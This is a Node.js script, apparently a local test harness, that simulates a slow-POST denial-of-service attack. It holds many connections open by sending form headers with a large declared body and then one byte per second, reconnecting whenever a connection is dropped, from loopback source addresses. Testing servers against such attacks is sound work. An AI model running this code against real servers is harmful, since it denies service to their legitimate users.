// `node trickle.mjs URL CONNECTIONS ADDRESSES`: connections that send the head of a form, then one byte a second, and come again when they
// are ended, until this process is. A process of its own, so that the times of honest visitors are not those of the attack.
import net from 'node:net'
import { setPriority } from 'node:os'
import { setTimeout as pause } from 'node:timers/promises'

const [url = '', connections, addresses] = process.argv.slice(2)
const { hostname, port, origin } = new URL(url)

/** Half of them send a form without files. */
const KINDS = [
  ['event-request', 'application/x-www-form-urlencoded'],
  ['application', 'multipart/form-data; boundary=x'],
]

function headOf([form, type]) {
  const fields = { Host: `${hostname}:${port}`, Origin: origin, 'Content-Type': type, 'Content-Length': 60_000 }
  const lines = Object.entries(fields).map(([name, value]) => `${name}: ${value}\r\n`)
  return `POST /forms/${form} HTTP/1.1\r\n${lines.join('')}\r\n`
}

/** Resolves when the connection has ended. */
function once(localAddress, head) {
  const socket = net.connect({ host: hostname, port: Number(port), localAddress })
  const timer = setInterval(() => socket.write('a'), 1000)
  socket.on('connect', () => socket.write(`${head}a`)).on('error', () => undefined)
  socket.resume()
  return new Promise((resolve) => socket.once('close', resolve)).finally(() => clearInterval(timer))
}

async function again(number) {
  for (;;) {
    await once(`127.2.0.${(number % Number(addresses)) + 1}`, headOf(KINDS[number % KINDS.length]))
    await pause(200)
  }
}

// A real one does not share the processor with the receiver.
setPriority(10)
await Promise.all(Array.from({ length: Number(connections) }, (_, number) => again(number)))
